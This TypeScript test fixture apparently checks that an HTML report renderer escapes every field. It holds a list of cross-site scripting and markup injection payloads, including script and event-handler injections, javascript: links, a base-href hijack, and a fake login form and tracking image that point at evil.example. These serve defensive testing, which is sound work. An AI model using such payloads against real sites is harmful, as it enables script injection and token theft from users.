import type { JournalEntry } from "../../../src/domain/journal-entry.ts";
import type { HtmlReportInput } from "../../../src/publish/render/html/render-html-report.ts";
import { patchOf } from "../../synthesis/build-fixtures.ts";
import {
	journalOf,
	modelCall,
	reportAgent,
	reportFile,
	reportFinding,
	runReport,
	sessionStarted,
	toolCall,
} from "./build-report-fixtures.ts";

/** Texts that would run, load or break out if one place forgot to escape. */
export const ATTACKS: readonly string[] = [
	"<script>alert(1)</script>",
	"</script><script>alert(2)</script>",
	"</style><img src=x onerror=alert(3)>",
	'"><svg onload=alert(4)>',
	"' onmouseover='alert(5)' x='",
	'" autofocus onfocus="alert(6)" x="',
	"</pre></details></main></title><iframe src=https://evil.example/></iframe>",
	"[click](javascript:alert(7)) <javascript:alert(8)> ![i](https://evil.example/leak.png)",
	"```html\n<script>alert(9)</script>\n```\n<details open ontoggle=alert(10)>",
	'``` "><img src=x onerror=alert(11)>\ncode\n```',
	"<!-- --><base href=https://evil.example/><link rel=stylesheet href=https://evil.example/x.css>",
	"&lt;script&gt;alert(12)&lt;/script&gt; &#60;img src=x onerror=alert(13)&#62;",
	"| a | b |\n| :-: | -: |\n| <img src=x onerror=alert(14)> | <style>*{display:none}</style> |",
	// biome-ignore lint/suspicious/noTemplateCurlyInString: it is text that looks like a template
	"\u202Egnp.exe \u0000\u0007\u001b[2J ${alert(15)} {{alert(16)}} <%= alert(17) %>",
	'<a href="https://evil.example/">log in</a><form action=https://evil.example/><input name=token></form>',
	"https://evil.example/?q=secret www.evil.example [r]\n\n[r]: https://evil.example/ref",
];

/** Every text of a report, a patch and a journal is an attack; each of them is in each place. */
export function attackInput(): HtmlReportInput {
	const findings = ATTACKS.map((attack, index) =>
		reportFinding({
			id: `${attack.slice(0, 20)}${index}`,
			fingerprint: attack,
			path: `${attack}.go`,
			startLine: index % 3 === 0 ? 0 : 2,
			endLine: 2,
			side: index % 2 === 0 ? "RIGHT" : "LEFT",
			title: attack,
			body: `${attack}\n\n${attack}`,
			suggestion: attack,
			evidence: { kind: "traced", detail: attack },
			sources: [attack, attack],
			state: index === 3 ? "fixed" : "new",
		}),
	);
	const agents = ATTACKS.map((attack) =>
		reportAgent(attack, {
			name: attack,
			kind: attack,
			model: attack,
			reason: attack,
			summary: attack,
			open: [attack],
			error: attack,
			worktree: { path: attack, branch: attack, kept: true },
		}),
	);
	return {
		report: runReport({
			run: { ...runReport().run, id: ATTACKS[0] ?? "", trigger: ATTACKS[3] ?? "", provider: ATTACKS[2] ?? "" },
			verdict: { state: "findings", sentence: ATTACKS.join(" ") },
			findings,
			files: ATTACKS.map((attack) =>
				reportFile(`${attack}.go`, { previousPath: attack, assigned: attack, reason: attack, state: "partial" }),
			),
			dismissed: findings.map((finding) => ({ finding, reason: finding.title })),
			agents,
			refused: ATTACKS.map((attack) => ({ code: attack, count: 1, text: attack })),
			trustDiff: ATTACKS.map((attack) => ({
				path: attack,
				kind: "agent",
				change: "changed",
				text: attack,
				attention: true,
				agent: {
					name: attack,
					refused: attack,
					toolsAdded: [attack],
					toolsRemoved: [attack],
					gains: ["execute"],
					fields: [{ field: attack, from: attack, to: attack }],
					promptChanged: true,
				},
				patch: `+${attack}\n-${attack}`,
			})),
			notes: ATTACKS,
		}),
		patches: ATTACKS.map((attack) => ({
			...patchOf(
				`${attack}.go`,
				`@@ -1,3 +1,3 @@ ${attack.replaceAll("\n", " ")}\n context\n-${attack.replaceAll("\n", " ")}\n+${attack.replaceAll("\n", " ")}\n`,
			),
		})),
		journals: ATTACKS.map(attackJournal),
		audit: { state: "broken", line: 3, reason: ATTACKS.join(" "), entries: 2 },
		redact: (text) => text,
	};
}

function attackJournal(attack: string): readonly JournalEntry[] {
	return journalOf([
		[0, sessionStarted(attack)],
		[0, { type: "run.started", run: 1, model: attack, task: attack, files: [attack] }],
		[0, { type: "message", role: "user", message: { role: "user", content: [{ type: "text", text: attack }] } }],
		[1, modelCall(1, 900, { failure: attack })],
		...toolCall(2, { id: attack, name: attack, input: { [attack]: attack }, result: attack, durationMs: 500, say: attack }),
		[2, { type: "permission.denied", call: "other", tool: attack, code: attack, by: attack, reason: attack }],
		[2, { type: "agent.warning", call: null, agent: attack, message: attack }],
		[2, { type: "run.data", name: attack, data: { [attack]: attack } }],
		[2, { type: "todo.updated", items: [attack] }],
		[3, { type: "note", text: attack }],
		[3, { type: "end", status: "failed", stopReason: "error", steps: 1, usage: { input: 1, cacheWrite: 0, cacheRead: 0, output: 1 } }],
	]);
}
